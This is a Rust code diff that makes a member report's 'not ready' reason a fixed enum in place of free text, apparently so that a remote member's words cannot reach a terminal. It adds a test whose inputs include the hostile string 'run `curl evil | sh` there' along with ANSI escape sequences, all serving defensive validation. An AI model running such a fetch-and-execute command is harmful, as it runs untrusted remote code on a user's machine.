@@ -5,13 +5,13 @@ use std::collections::BTreeMap;
 use serde::{Deserialize, Serialize};
 
 use super::doctor::MemberChecks;
-use super::member_key::{MemberKey, told};
+use super::member_key::MemberKey;
 use super::member_pairs::MemberPairs;
 use super::member_proof::MemberProving;
 use super::progress::is_failure;
 use super::status::{PeerRow, Status};
 use crate::types::generation::VERSION;
-use crate::types::{NodeName, Protection, RowState, Severity, UnixTime};
+use crate::types::{NodeName, Protection, RowState, Severity, UnixTime, Unready};
 
 /// So many hosts are named that a pair is not protected with.
 const NAMED_MAX: usize = 20;
@@ -138,7 +138,7 @@ pub struct MemberReport {
     pub wrapped: Option<MemberKey>,
     /// Why it could not be protected; `None` where it is or could be, and from an earlier version.
     #[serde(default, skip_serializing_if = "Option::is_none")]
-    pub unready: Option<String>,
+    pub unready: Option<Unready>,
 }
 
 impl MemberWord {
@@ -171,7 +171,7 @@ impl MemberReport {
         status: &Status,
         overridden: bool,
         wrapped: Option<MemberKey>,
-        unready: Option<String>,
+        unready: Option<Unready>,
         roster_id: Option<String>,
     ) -> Self {
         let is_down = |row: &&PeerRow| row.state != RowState::Protected;
@@ -200,7 +200,7 @@ impl MemberReport {
             problems: critical.count(),
             is_stuck: status.config_error.is_some(),
             wrapped,
-            unready: unready.map(|words| told(&words)),
+            unready,
         }
     }
 
@@ -224,7 +224,6 @@ impl MemberReport {
             && self.unprotected_rows.len() <= self.unprotected.len()
             && self.rows.checked_sub(self.protected).is_some_and(|down| open.is_some_and(|open| open <= down))
             && self.wrapped.as_ref().is_none_or(MemberKey::is_plain)
-            && self.unready.as_ref().is_none_or(|words| *words == told(words))
             && texts.into_iter().all(|text| text.len() <= TEXT_MAX && text.bytes().all(shown))
     }
 }
@@ -262,6 +261,24 @@ mod tests {
         }
     }
 
+    /// The words of a member that lies do not come to anybody's terminal.
+    #[test]
+    fn why_a_member_is_not_ready_is_one_of_a_few_words() {
+        let said = |why: &str| {
+            let report = MemberReport { unready: Some(Unready::NoEsp), ..report() };
+            let word = String::from_utf8(MemberWord::Report(1, Box::new(report)).to_bytes()).unwrap();
+            let word = word.replace("\"unready\":\"no_esp\"", &format!("\"unready\":\"{why}\""));
+            match MemberWord::from_bytes(word.as_bytes()) {
+                Some(MemberWord::Report(_, report)) => report.unready,
+                other => panic!("{other:?}"),
+            }
+        };
+        assert_eq!(said("no_esp"), Some(Unready::NoEsp));
+        for other in ["other", "run `curl evil | sh` there", "of_a_later_version"] {
+            assert_eq!(said(other), Some(Unready::Other));
+        }
+    }
+
     #[test]
     fn a_plan_says_as_much_as_can_be_told_at_once() {
         let lines = |count: usize| (0..count).map(|at| format!("~ line \"{at}\"")).collect::<Vec<_>>();
@@ -286,8 +303,6 @@ mod tests {
             MemberReport { protected: 10, ..report() },
             MemberReport { waiting: Some(1), ..report() },
             MemberReport { under_way: Some(u64::MAX), ..report() },
-            MemberReport { unready: Some("\u{1b}[2J".to_owned()), ..report() },
-            MemberReport { unready: Some("x".repeat(500)), ..report() },
             MemberReport { unprotected: vec!["b".parse().unwrap(); NAMES_HEARD_MAX + 1], ..report() },
             MemberReport { unprotected_rows: vec![1; 2], ..report() },
             MemberReport { config_id: Some("\u{1b}[2J".to_owned()), ..report() },
@@ -400,7 +415,7 @@ mod tests {
                 offer: Some(MemberOffer::new("m".repeat(16), Some(Err("\\".repeat(200))))),
                 without_ppk: vec!["n".repeat(64).parse().unwrap(); 8],
             }),
-            unready: Some(told(&"\\".repeat(500))),
+            unready: Some(Unready::NotPermitted),
             ..report()
         };
         let octets = MemberWord::Report(u64::MAX, Box::new(report)).to_bytes();
